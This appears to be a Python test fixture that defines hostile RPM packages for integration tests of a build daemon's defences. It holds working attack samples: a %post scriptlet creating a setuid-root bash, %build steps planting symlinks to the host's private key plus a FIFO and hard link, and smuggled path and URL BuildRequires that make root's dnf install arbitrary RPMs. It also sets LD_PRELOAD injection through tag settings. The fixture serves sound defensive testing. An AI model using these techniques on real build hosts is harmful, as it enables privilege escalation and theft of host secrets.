"""Packages a hostile packager could submit (the hostile-builds issue), and
the host secret they go after.

One of them is in the tag's repo, so that a build can pull it in as a
BuildRequires and have its scriptlet run as root in the buildroot:
`evil-suid` installs a setuid-root copy of bash for the build user.  The
others are SRPMs to build, each an attack on a different door:
`hostile-links` plants, as the build user, a symlink to the host's client
certificate, a FIFO and a hard link among the task's result files, where the
root daemon reads.
"""

from __future__ import annotations

import textwrap

from tests.integration.rpmrepo import Package

# In the test host (the daemon's side), made by the test site: what a hostile
# build must never get out.  A symlink inside the container names this path.
HOST_SECRET = "/etc/kojid/adjutant-test-client.pem"
SECRET_TEXT = "-----BEGIN PRIVATE KEY----- adjutant test secret, must never reach the hub"

RESULT = "/builddir/result"

EVIL_SUID = Package(name="evil-suid", extra=textwrap.dedent("""\
    %post -p <lua>
    rpm.execute("/bin/mkdir", "-p", "/usr/local/bin")
    rpm.execute("/bin/cp", "/bin/bash", "/usr/local/bin/rootsh")
    rpm.execute("/bin/chmod", "4755", "/usr/local/bin/rootsh")
    """))

REPO_PACKAGES = (EVIL_SUID,)

# Its %build plants the links where the daemon reads: each must be refused
HOSTILE_LINKS = Package(name="hostile-links", build=textwrap.dedent(f"""\
    ln -sfn {HOST_SECRET} {RESULT}/installed_pkgs.log
    ln -sfn {HOST_SECRET} {RESULT}/hostile-links-1.0-1.adj1.noarch.rpm
    rm -f {RESULT}/checkout.log && mkfifo {RESULT}/checkout.log
    rm -f {RESULT}/hw_info.log && ln /builddir/home/.rpmmacros {RESULT}/hw_info.log
    """))

# The build user tries the setuid-root shell, and says who it is
HOSTILE_SUID = Package(
    name="hostile-suid", build_requires=("evil-suid",),
    extra="%global parse_uid %(id -u)\n",
    build=textwrap.dedent("""\
        echo "PARSE UID %{parse_uid}"
        echo "BUILD UID $(id -u)"
        ls -l /usr/local/bin/rootsh
        echo "SETUID SHELL EUID $(/usr/local/bin/rootsh -p -c 'id -u')"
        cat /proc/self/status | grep -E '^(Uid|CapEff|NoNewPrivs)'
        echo "UID MAP $(cat /proc/self/uid_map | tr -s ' ')"
        """),
)

# Requirements that root's `dnf install` would take as a local package file
PATH_REQUIRES = Package(
    name="path-requires",
    build_requires=("/mnt/koji/packages/evil/1.0/1/noarch/evil-1.0-1.noarch.rpm",),
)
# URLs: dnf install would fetch and install them (the first names a file the
# container has: its own input SRPM).  (A requirement `--nogpgcheck` cannot be
# written: rpmbuild refuses a token that does not start with a letter, _ or /.)
URL_REQUIRES = Package(
    name="url-requires",
    build_requires=("file:///adjutant/input.src.rpm", "http://127.0.0.1:9/evil.rpm"),
)
# ... and one %generate_buildrequires emits: the path of an RPM the build has
# (its own Source1, an RPM whose %post would run as root)
GENERATED_PATH = Package(
    name="generated-path",
    extra=textwrap.dedent("""\
        Source1: evil-payload-1.0-1.noarch.rpm
        %generate_buildrequires
        echo %{SOURCE1}
        """),
)

# The tag's environment and macros, aimed at root's steps: they reach rpmbuild only
PRELOAD_ENV = {"rpm.env.LD_PRELOAD": "/nonexistent/adjutant-preload.so",
               "rpm.macro._dbpath": "/nonexistent-rpmdb"}
PLAIN = Package(name="plain-build", build="echo LD_PRELOAD=$LD_PRELOAD")

SRPMS = (HOSTILE_LINKS, HOSTILE_SUID, PATH_REQUIRES, URL_REQUIRES, PLAIN)
